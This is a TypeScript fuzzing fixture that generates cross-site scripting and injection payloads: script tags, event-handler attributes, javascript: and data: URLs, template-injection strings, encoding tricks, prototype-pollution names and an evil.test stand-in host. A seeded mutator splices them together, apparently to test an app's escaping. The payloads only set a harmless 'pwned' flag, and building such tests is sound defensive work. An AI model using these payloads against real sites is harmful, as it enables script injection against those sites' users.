/** Attacks instead of texts; each sets `pwned` on the window if any of it runs. */
const scripts = ['pwned=1', 'globalThis.pwned=1', 'top.pwned=1', 'window["pwn"+"ed"]=1'];

const templates: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<img src=x onerror='${run}'>`,
  (run) => `"><img src=x onerror='${run}'>`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `" autofocus onfocus="${run}`,
  (run) => `<svg onload='${run}'>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><a href="javascript:${run}"><text>x</text></a></svg>`,
  (run) => `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<input autofocus onfocus='${run}'>`,
  (run) => `<details open ontoggle='${run}'>`,
  (run) => `<video><source onerror='${run}'></video>`,
  (run) => `<audio src=x onerror='${run}'>`,
  (run) => `<marquee onstart='${run}'>`,
  (run) => `<body onload='${run}'>`,
  (run) => `<style>@import "javascript:${run}";*{color:red}</style>`,
  (run) => `<style onload='${run}'></style>`,
  (run) => `<link rel=stylesheet href="data:text/css,*{}" onload='${run}'>`,
  (run) => `<meta http-equiv=refresh content="0;javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<template data-pet="row"><img src=x onerror='${run}'></template>`,
  (run) => `<pet-store apikey="x" baseurl="javascript:${run}"></pet-store>`,
  (run) => `<slot name="rows" onslotchange='${run}'></slot>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  (run) => `<!--><img src=x onerror='${run}'>-->`,
  (run) => `<![CDATA[<img src=x onerror='${run}'>]]>`,
  (run) => `<textarea></textarea><img src=x onerror='${run}'>`,
  (run) => `<title></title><img src=x onerror='${run}'>`,
  (run) => `<select><option><img src=x onerror='${run}'></option></select>`,
  (run) => `<table><td><img src=x onerror='${run}'></td></table>`,
  (run) => `<p title="?lit$1$"><img src=x onerror='${run}'>`,
  (run) => `<?lit$000000000$><img src=x onerror='${run}'>`,
  (run) => `<!--?lit$000000000$--><img src=x onerror='${run}'>`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `javascript:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript%3A${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  (run) => `vbscript:${run}`,
  (run) => `blob:javascript:${run}`,
  (run) => `filesystem:javascript:${run}`,
  (run) => `view-source:javascript:${run}`,
  (run) => `feed:javascript:${run}`,
  (run) => `//evil.test/${run}`,
  (run) => `\\\\evil.test\\${run}`,
  (run) => `../../${run}`,
  (run) => `]]><script>${run}</script>`,
  (run) => `\u202e<script>${run}</script>`,
  (run) => `\u0000<script>${run}</script>`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;script&#62;${run}&#60;/script&#62;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
];

/** Names that shadow or pollute objects in programs that use a text as a member name or an id, and parts of addresses. */
const names =
  `__proto__ constructor prototype toString valueOf hasOwnProperty then pwned innerHTML outerHTML srcdoc onclick style
  attributes parentNode children nodeName name id status category select outcome issues problems . .. # ? % %zz \ud800`.split(
    /\s+/,
  );

/** Every payload of the list. */
export const payloads: readonly string[] = [
  ...templates.flatMap((template) => scripts.map((run) => template(run))),
  ...names,
];

/** Each kind of attack once. */
export const kinds: readonly string[] = [
  ...templates.map((template, index) => template(scripts[index % scripts.length] ?? '')),
  ...names,
];

/** Random numbers from 0 to below 1, the same for the same seed (mulberry32). */
export function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
}

/** Payloads cut into pieces and joined at random, with characters between them that confuse parsers. */
export function mutants(seed: number, count: number): string[] {
  const random = randomFrom(seed);
  const pick = <Item>(items: ArrayLike<Item>, otherwise: Item) =>
    items[Math.floor(random() * items.length)] ?? otherwise;
  const glue = ['', ' ', '\n', '\0', '</', '-->', '${', '\u2028', '\ufeff', '\ud800', ...'"\'`<>&;{}'];
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(random() * 4) }, () => {
      const text = pick(payloads, '');
      const from = Math.floor(random() * text.length * 0.5);
      return text.slice(random() < 0.5 ? 0 : from, random() < 0.5 ? text.length : from + 30) + pick(glue, '');
    }).join(''),
  );
}
